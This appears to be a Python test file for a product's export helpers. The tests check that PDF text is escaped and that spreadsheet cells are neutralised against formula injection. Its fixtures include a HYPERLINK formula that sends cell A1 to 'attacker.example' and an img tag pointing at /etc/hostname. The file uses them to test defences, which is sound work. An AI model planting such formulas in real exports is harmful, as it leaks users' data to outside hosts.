"""The shared export helpers: every user text in a PDF is escaped, no spreadsheet cell runs as a formula,
and every CSV, XLSX and reportlab text of the product goes through them."""

import csv
import io
import re
from pathlib import Path

from openpyxl import Workbook, load_workbook
from reportlab.lib.styles import getSampleStyleSheet
from reportlab.platypus import SimpleDocTemplate

from biocluster.core.pdf import paragraph, pdf_text
from biocluster.core.spreadsheets import Echo, csv_writer, safe_text, xlsx_row

PACKAGE = Path(__file__).resolve().parents[2]
FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'


def test_pdf_text_shows_markup_as_written():
    text = "Evil <b>Bio & <img src='/etc/hostname'/>\nCo"
    assert pdf_text(text) == "Evil &lt;b&gt;Bio &amp; &lt;img src='/etc/hostname'/&gt;<br/>Co"
    assert pdf_text(None) == ""
    buffer = io.BytesIO()
    SimpleDocTemplate(buffer).build([paragraph(text, getSampleStyleSheet()["Normal"])])
    assert b"/Subtype /Image" not in buffer.getvalue()


def test_safe_text_quotes_what_a_spreadsheet_would_run():
    for formula in (FORMULA, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"):
        assert safe_text(formula) == "'" + formula
    assert safe_text("-12.50") == "-12.50"  # a plain number stays a number
    assert safe_text("Généthon") == "Généthon" and safe_text(None) == ""


def test_the_csv_writer_neutralises_each_text_cell_and_keeps_numbers():
    line = csv_writer(Echo()).writerow([FORMULA, 3, None, "=1"])
    assert next(csv.reader([line])) == ["'" + FORMULA, "3", "", "'=1"]


def test_xlsx_rows_keep_text_as_text():
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(xlsx_row(sheet, [FORMULA, 2, None]))
    buffer = io.BytesIO()
    workbook.save(buffer)
    cell = load_workbook(buffer).active["A1"]
    assert cell.value == FORMULA and cell.data_type == "s"


def test_every_export_of_the_product_goes_through_the_helpers():
    """A CSV writer or a reportlab paragraph made elsewhere would bypass the escaping."""
    sources = {
        str(path.relative_to(PACKAGE)): path.read_text(encoding="utf-8")
        for path in PACKAGE.rglob("*.py")
        if "tests" not in path.parts and path.parent.name != "core"
    }
    # Files read by programs, not opened by people: their ids must come back exactly as given.
    data_files = {"recommendations/engine/files.py"}  # `recommend partners`' SUGGESTIONS.csv
    direct = re.compile(r"csv\.(writer|DictWriter)\(|\bParagraph\(")
    assert [name for name, text in sources.items() if direct.search(text) and name not in data_files] == []
    workbooks = [name for name, text in sources.items() if "Workbook(" in text]
    assert workbooks and all("xlsx_row(" in sources[name] for name in workbooks)
